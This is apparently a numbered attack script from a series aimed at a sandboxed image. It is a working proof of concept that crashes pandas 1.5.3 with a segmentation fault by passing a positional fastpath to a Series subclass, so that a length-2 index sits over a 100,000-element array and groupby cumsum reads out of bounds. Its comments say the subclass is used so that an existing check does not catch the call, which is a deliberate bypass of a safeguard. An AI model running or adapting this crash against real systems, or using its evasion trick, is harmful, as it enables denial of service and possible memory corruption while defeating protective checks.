# source: pandas 1.5.3 Series.__init__(data, index, dtype, name, copy, fastpath) and pandas/_libs/groupby.pyx (group_cumsum: no bound check on labels); attack12by found the positional fastpath, this is the same through a subclass, whose calls the check does not count as pd.Series's
# family: a subclass of pd.Series called with fastpath by position: an extension array under an index of another length
# goal: groupby's cumsum walks the array's length over labels of the index's: segmentation fault in the image
import numpy as np
import pandas as pd
class K(pd.Series):
    pass
vals = pd.array(np.ones(100000, dtype=np.int64), dtype="Int64")
s = K(vals, pd.RangeIndex(2), None, None, False, True)
print(len(s), len(s.array))
g = s.groupby(np.zeros(2, dtype=np.int64))
print(g.cumsum())
